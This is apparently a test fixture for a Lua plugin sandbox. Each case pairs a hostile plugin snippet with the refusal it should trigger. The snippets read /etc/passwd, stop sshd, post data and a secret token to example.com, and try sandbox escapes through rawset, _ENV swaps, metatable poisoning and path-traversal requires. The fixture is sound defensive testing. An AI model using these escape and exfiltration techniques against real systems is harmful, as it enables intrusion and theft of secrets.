--- a command without a grant | refused plugin "chat" needs "host.run"
return function(host) host:run 'evil' end
--- a command whose error is swallowed, then again | refused plugin "chat" needs "host.run"
return function(host) pcall(host.run, host, 'evil') host:run 'evil' end
--- a target's handle | refused plugin "chat" needs "host.run"
return function(_, d) d.targets:first():run 'evil' end
--- a handle from a split of the targets | refused plugin "chat" needs "host.run"
return function(_, d) d.targets:split(1):first():run 'evil' end
--- a handle in each | refused plugin "chat" needs "host.run"
return function(_, d) each(d.targets, function(h) h:run 'evil' end) end
--- a command in a coroutine | refused plugin "chat" needs "host.run"
return function(host) coroutine.wrap(function() host:run 'evil' end)() end
--- a command in a chunk of its own | refused plugin "chat" needs "host.run"
return load 'local host = ... host:run [[evil]]'
--- a command while it cleans up | refused plugin "chat" needs "host.run"
return function(host) local x <close> = setmetatable({}, { __close = function() host:run 'evil' end }) end
--- a file is read | refused plugin "chat" needs "host.read"
return function(host) return host:read '/etc/passwd' end
--- a file is looked for | refused plugin "chat" needs "host.read"
return function(host) return host:exists '/etc/passwd' end
--- a file is written | refused plugin "chat" needs "host.write"
return function(host) host:write('a', 'evil') end
--- a link is made | refused plugin "chat" needs "host.write"
return function(host) host:link('/etc/passwd', 'a') end
--- a file is brought | refused plugin "chat" needs
return function(host) host:upload('/etc/passwd', 'a') end
--- a file is fetched | refused plugin "chat" needs
return function(host) host:download('/etc/passwd', 'a') end
--- a port is looked at | refused plugin "chat" needs "host.check"
return function(host) host:wait_for { port = 22 } end
--- a command as a check | refused plugin "chat" needs "host.run"
return function(host) host:wait_for { command = 'evil' } end
--- a service is stopped | refused plugin "chat" needs "host.service"
return function(host) host:service('stop', 'sshd') end
--- a command on the engine's machine | refused plugin "chat" needs "local.exec:sh"
return function() here:run 'evil' end
--- a program of the engine's machine | refused plugin "chat" needs "local.exec:evil"
return function() here:run { 'evil' } end
--- a file of the engine's machine | refused plugin "chat" needs "local.read:/etc/passwd"
return function() return here:read '/etc/passwd' end
--- a request to an address | refused plugin "chat" needs "http:
return function() return http.get 'https://example.com/evil' end
--- a request that sends something | refused plugin "chat" needs "http:
return function() return http.post('https://example.com/evil', { body = 'x' }) end
--- a secret | refused plugin "chat" needs "secret:TOKEN"
return function() return tostring(secret 'TOKEN') end
--- a secret as a header | refused plugin "chat" needs
return function() return http.get('https://example.com', { headers = { A = secret 'TOKEN' } }) end
--- the grants on the handle | refused host cannot be changed
return function(host) host.plugin = nil host:run 'evil' end
--- the grants past the handle's metatable | refused table expected
return function(host) rawset(host, 'plugin', nil) host:run 'evil' end
--- an environment that is swapped | refused plugin "chat" needs "host.run"
return function(host) local _ENV = { host = host } host:run 'evil' end
--- grants that it gives itself | refused there is no global allow
allow 'chat' { 'host.run' }
return function(host) host:run 'evil' end
--- a loop | stopped
return function() while true do pcall(error) end end
--- a loop that cleans up for ever | stopped
return function()
  local x <close> = setmetatable({}, { __close = function() while true do end end })
  while true do end
end
--- memory without end | stopped
return function() local t = {} for i = 1, 1e9 do t[i] = ('x'):rep(1000) .. i end end
--- recursion without end | refused stack overflow
local function f() return f() + 1 end
return f
--- a string method for everybody | refused attempt to index a boolean value
getmetatable('').__index = function() return function() return 'evil' end end
return function() end
--- a global for everybody | refused is not local
stolen = 1
return function() end
--- a text for a hook | refused ValidateService
return 'evil'
--- a host of its own | refused names hosts of its own
group 'mine' { hosts = { 'evil' } }
return function() end
--- a recipe of its own | refused names hosts of its own
recipe 'evil' { path = '/evil', targets = { 'evil' } }
return function() end
--- another plugin's file | refused ../own/init
return require '../own/init'
--- the project's recipe | refused deploy
return require './../../deploy'
--- an error that shows an address | refused it is a table
error("it is a " .. tostring({}))
